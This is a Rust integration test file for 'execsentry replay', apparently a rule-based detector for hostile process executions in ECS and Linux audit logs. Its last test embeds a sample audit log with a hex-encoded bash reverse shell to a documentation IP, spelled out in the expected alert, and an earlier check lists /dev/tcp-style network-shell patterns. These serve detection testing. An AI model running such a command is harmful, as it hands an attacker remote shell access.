//! `execsentry replay`, run as a user would: the built binary on files and stdin.

mod cli_support;

use std::collections::HashSet;
use std::process::Stdio;

use serde_json::Value;

use cli_support::{command, run, run_with_stdin, sample, TempDir};
use execsentry::document::lookup;

const SEED_ID: &str = "a1a0375f-22c2-48c0-81a4-7c2d11cc6856";

/// The sample's events that the seed rule must alert on, by `event.id`, with the process name.
const EXPECTED: &[(&str, &str)] = &[
    ("MpLZ1nkBzF7dYnIrAAAB", "bash"),
    ("MpLZ1nkBzF7dYnIrAAAF", "dash"),
    ("a6e8b1f2-4d3c-4b9a-8e7f-000000000008", "sh"),
    ("a6e8b1f2-4d3c-4b9a-8e7f-000000000009", "zsh"),
    ("flat-0013", "bash"),
];

fn alerts(ndjson: &str) -> Vec<serde_json::Map<String, Value>> {
    ndjson
        .lines()
        .map(|l| match serde_json::from_str(l) {
            Ok(Value::Object(m)) => m,
            other => panic!("alert line is not an object: {other:?}: {l}"),
        })
        .collect()
}

fn str_at<'a>(alert: &'a serde_json::Map<String, Value>, path: &str) -> &'a str {
    lookup(alert, path)
        .and_then(Value::as_str)
        .unwrap_or_else(|| panic!("no string {path} in {alert:?}"))
}

/// The alerts are exactly the expected ones, in input order, each with its own id.
fn check_sample_alerts(stdout: &str) {
    let alerts = alerts(stdout);
    let got: Vec<(&str, &str)> = alerts
        .iter()
        .map(|a| (str_at(a, "event.id"), str_at(a, "process.name")))
        .collect();
    assert_eq!(got, EXPECTED);
    let mut ids = HashSet::new();
    for a in &alerts {
        assert_eq!(str_at(a, "rule.id"), SEED_ID);
        assert_eq!(str_at(a, "event.kind"), "alert");
        let args = lookup(a, "process.args").unwrap().to_string();
        assert!(
            ["/dev/tcp/", "/dev/udp/", "zsh/net/tcp"]
                .iter()
                .any(|s| args.contains(s)),
            "{args}"
        );
        assert!(ids.insert(str_at(a, "execsentry.alert.id").to_owned()));
    }
}

fn summary_value(stderr: &str, key: &str) -> u64 {
    let line = stderr
        .lines()
        .find(|l| l.trim_start().starts_with(&format!("{key}:")))
        .unwrap_or_else(|| panic!("no {key} in summary:\n{stderr}"));
    line.split(':')
        .nth(1)
        .and_then(|v| v.split_whitespace().next())
        .and_then(|v| v.parse().ok())
        .unwrap_or_else(|| panic!("bad {key} line: {line}"))
}

#[test]
fn replays_the_sample() {
    let r = run(&["replay".as_ref(), sample().as_os_str()]);
    assert_eq!(r.code, Some(0), "{}", r.stderr);
    check_sample_alerts(&r.stdout);
    assert_eq!(summary_value(&r.stderr, "files"), 1);
    assert_eq!(summary_value(&r.stderr, "events"), 13);
    assert_eq!(summary_value(&r.stderr, "malformed"), 0);
    assert_eq!(summary_value(&r.stderr, "alerts"), 5);
    assert_eq!(summary_value(&r.stderr, "suppressed"), 0);
    assert!(r.stderr.contains("elapsed:"), "{}", r.stderr);
    assert!(r.stderr.contains("events/s:"), "{}", r.stderr);
}

#[test]
fn reads_stdin() {
    let data = std::fs::read(sample()).unwrap();
    let r = run_with_stdin(&["replay", "--format", "ecs", "-"], &data);
    assert_eq!(r.code, Some(0), "{}", r.stderr);
    check_sample_alerts(&r.stdout);
    let r = run_with_stdin(&["replay", "-"], &data);
    assert_eq!(r.code, Some(0), "{}", r.stderr);
    check_sample_alerts(&r.stdout);
}

#[test]
fn alerts_to_a_file_with_mode_0600() {
    let dir = TempDir::new("alerts-file");
    let out = dir.path().join("alerts.ndjson");
    let r = run(&[
        "replay".as_ref(),
        "--alerts".as_ref(),
        out.as_os_str(),
        sample().as_os_str(),
    ]);
    assert_eq!(r.code, Some(0), "{}", r.stderr);
    assert_eq!(r.stdout, "", "alerts must not go to stdout");
    check_sample_alerts(&std::fs::read_to_string(&out).unwrap());
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        let mode = std::fs::metadata(&out).unwrap().permissions().mode();
        assert_eq!(mode & 0o777, 0o600);
    }
    // A second run appends.
    let r = run(&[
        "replay".as_ref(),
        "--alerts".as_ref(),
        out.as_os_str(),
        sample().as_os_str(),
    ]);
    assert_eq!(r.code, Some(0));
    assert_eq!(std::fs::read_to_string(&out).unwrap().lines().count(), 10);
}

#[test]
fn malformed_lines_are_reported_and_skipped() {
    let dir = TempDir::new("malformed");
    let good = std::fs::read_to_string(sample()).unwrap();
    let first = good.lines().next().unwrap();
    let content = format!(
        "{first}\n{{\"process\": \n[1, 2]\n\n{}\n{first}\n",
        "x".repeat(2 << 20)
    );
    let file = dir.write("mixed.ndjson", &content);
    let r = run(&["replay".as_ref(), file.as_os_str()]);
    assert_eq!(r.code, Some(0), "{}", r.stderr);
    let name = file.display().to_string();
    assert_eq!(summary_value(&r.stderr, "events"), 2);
    assert_eq!(summary_value(&r.stderr, "malformed"), 3);
    for (line, reason) in [
        (2, "invalid JSON at column 12: EOF while parsing a value"),
        (3, "not a JSON object (found an array)"),
        (5, "line is 2097152 bytes, over the 1048576-byte limit"),
    ] {
        let expected = format!("{name}:{line}: {reason}");
        assert!(r.stderr.contains(&expected), "{expected}\n{}", r.stderr);
    }
    // Both good lines alert, before and after the bad ones.
    assert_eq!(alerts(&r.stdout).len(), 2);
}

#[test]
fn missing_file_is_exit_2_and_says_which() {
    let dir = TempDir::new("missing");
    let missing = dir.path().join("nope.ndjson");
    let r = run(&["replay".as_ref(), sample().as_os_str(), missing.as_os_str()]);
    assert_eq!(r.code, Some(2));
    assert!(
        r.stderr
            .contains(&format!("cannot open {}", missing.display())),
        "{}",
        r.stderr
    );
    assert!(r.stderr.contains("No such file"), "{}", r.stderr);
    assert_eq!(r.stdout, "", "nothing is replayed when an input is missing");
}

#[test]
fn unknown_format_names_the_known_ones() {
    let dir = TempDir::new("format");
    let file = dir.write(
        "syslog",
        "\nNov 28 06:43:33 web1 sshd[812]: Accepted publickey for root\n",
    );
    let r = run(&["replay".as_ref(), file.as_os_str()]);
    assert_eq!(r.code, Some(2), "{}", r.stderr);
    assert!(
        r.stderr.contains("cannot tell the input format"),
        "{}",
        r.stderr
    );
    assert!(r.stderr.contains("known formats: ecs"), "{}", r.stderr);
    assert!(r.stderr.contains("audit (Linux audit"), "{}", r.stderr);
    assert!(
        r.stderr.contains(&file.display().to_string()),
        "{}",
        r.stderr
    );
}

#[test]
fn no_rules_is_an_error() {
    let r = run(&[
        "replay".as_ref(),
        "--no-builtin-rules".as_ref(),
        sample().as_os_str(),
    ]);
    assert_eq!(r.code, Some(2));
    assert!(r.stderr.contains("no rules loaded"), "{}", r.stderr);
}

/// A rule allowed 2 alerts per 5 minutes meets 5 matching events in one window and 1 in the next.
#[test]
fn throttle_honours_max_signals_per_interval() {
    let dir = TempDir::new("throttle");
    let rule = dir.write(
        "rules/bash.toml",
        r#"[rule]
rule_id = "throttle-test"
name = "Any bash"
description = "Every bash start"
severity = "low"
risk_score = 21
type = "eql"
language = "eql"
max_signals = 2
interval = "5m"
query = 'process where process.name == "bash"'
"#,
    );
    let mut events = String::new();
    for (i, ts) in [
        "2026-11-27T10:00:01Z",
        "2026-11-27T10:00:02Z",
        "2026-11-27T10:01:00Z",
        "2026-11-27T10:03:00Z",
        "2026-11-27T10:04:59Z",
        "2026-11-27T10:05:00Z",
    ]
    .iter()
    .enumerate()
    {
        events.push_str(&format!(
            "{{\"@timestamp\":\"{ts}\",\"event\":{{\"id\":\"t{i}\",\"category\":[\"process\"]}},\"process\":{{\"name\":\"bash\"}}}}\n"
        ));
    }
    let input = dir.write("events.ndjson", &events);
    let r = run(&[
        "replay".as_ref(),
        "--no-builtin-rules".as_ref(),
        "--rules".as_ref(),
        rule.as_os_str(),
        input.as_os_str(),
    ]);
    assert_eq!(r.code, Some(0), "{}", r.stderr);
    let got: Vec<String> = alerts(&r.stdout)
        .iter()
        .map(|a| str_at(a, "event.id").to_owned())
        .collect();
    assert_eq!(got, ["t0", "t1", "t5"]);
    assert_eq!(summary_value(&r.stderr, "alerts"), 3);
    assert_eq!(summary_value(&r.stderr, "suppressed"), 3);
    assert!(
        r.stderr
            .contains("throttle-test Any bash (max_signals 2 per 5m): 3"),
        "{}",
        r.stderr
    );
}

#[test]
fn closed_stdout_is_a_quiet_end() {
    let mut child = command()
        .args(["replay".as_ref(), sample().as_os_str()])
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    drop(child.stdout.take());
    let out = child.wait_with_output().unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(0), "{stderr}");
    assert!(!stderr.contains("panicked"), "{stderr}");
}

#[test]
fn version_flag() {
    let r = run(&["--version"]);
    assert_eq!(r.code, Some(0));
    assert_eq!(
        r.stdout.trim(),
        format!("execsentry {}", env!("CARGO_PKG_VERSION"))
    );
}

/// A raw audit.log (no EOE, as auditd writes it): a shell, then a reverse shell it starts with a
/// hex-encoded argument, then an excluded loopback one. Exactly one alert, with the parent's
/// facts taken from the earlier exec in the same file.
#[cfg(target_os = "linux")]
#[test]
fn audit_log_replays_through_the_seed_rule_with_parent_facts() {
    let dir = TempDir::new("audit");
    let log = r#"type=SYSCALL msg=audit(1795848213.100:500): arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=0 items=2 ppid=1 pid=100 auid=1000 uid=1000 gid=1000 euid=1000 suid=1000 fsuid=1000 egid=1000 sgid=1000 fsgid=1000 tty=pts0 ses=3 comm="bash" exe="/usr/bin/bash" key="execsentry"
type=EXECVE msg=audit(1795848213.100:500): argc=2 a0="bash" a1="-l"
type=CWD msg=audit(1795848213.100:500): cwd="/home/u"
type=PATH msg=audit(1795848213.100:500): item=0 name="/usr/bin/bash" inode=1 dev=fe:00 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0
type=PROCTITLE msg=audit(1795848213.100:500): proctitle=62617368002D6C
type=SYSCALL msg=audit(1795848213.200:501): arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=0 items=2 ppid=100 pid=101 auid=1000 uid=1000 gid=1000 euid=1000 suid=1000 fsuid=1000 egid=1000 sgid=1000 fsgid=1000 tty=pts0 ses=3 comm="bash" exe="/usr/bin/bash" key="execsentry"
type=EXECVE msg=audit(1795848213.200:501): argc=3 a0="bash" a1="-c" a2=62617368202D69203E26202F6465762F7463702F3139322E302E322E312F3434343420303E2631
type=CWD msg=audit(1795848213.200:501): cwd="/home/u"
type=PATH msg=audit(1795848213.200:501): item=0 name="/bin/bash" inode=1 dev=fe:00 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0
type=PROCTITLE msg=audit(1795848213.200:501): proctitle=62617368002D63
type=SYSCALL msg=audit(1795848213.300:502): arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=0 items=2 ppid=100 pid=102 auid=1000 uid=1000 gid=1000 euid=1000 suid=1000 fsuid=1000 egid=1000 sgid=1000 fsgid=1000 tty=pts0 ses=3 comm="bash" exe="/usr/bin/bash" key="execsentry"
type=EXECVE msg=audit(1795848213.300:502): argc=3 a0="bash" a1="-c" a2=62617368202D69203E26202F6465762F7463702F3132372E302E302E312F3434343420303E2631
type=PROCTITLE msg=audit(1795848213.300:502): proctitle=62617368002D63
this line is not an audit record
"#;
    let file = dir.write("audit.log", log);
    let r = run(&["replay".as_ref(), file.as_os_str()]);
    assert_eq!(r.code, Some(0), "{}", r.stderr);
    let alerts: Vec<serde_json::Value> = r
        .stdout
        .lines()
        .map(|l| serde_json::from_str(l).expect("alert is JSON"))
        .collect();
    assert_eq!(alerts.len(), 1, "{}", r.stdout);
    let a = &alerts[0];
    assert_eq!(a["rule"]["id"], "a1a0375f-22c2-48c0-81a4-7c2d11cc6856");
    assert_eq!(a["process"]["name"], "bash");
    assert_eq!(a["process"]["pid"], 101);
    assert_eq!(
        a["process"]["args"],
        serde_json::json!(["bash", "-c", "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"])
    );
    assert_eq!(a["process"]["parent"]["name"], "bash");
    assert_eq!(a["process"]["parent"]["command_line"], "bash -l");
    assert_eq!(a["process"]["user"]["id"], "1000");
    assert_eq!(a["event"]["sequence"], 501);
    assert_eq!(a["@timestamp"], "2026-11-28T06:43:33.200Z");
    assert!(r.stderr.contains("events:      3"), "{}", r.stderr);
    assert!(
        r.stderr.contains("audit.log:14:1: expected `type=NAME`"),
        "the bad line is named: {}",
        r.stderr
    );
}
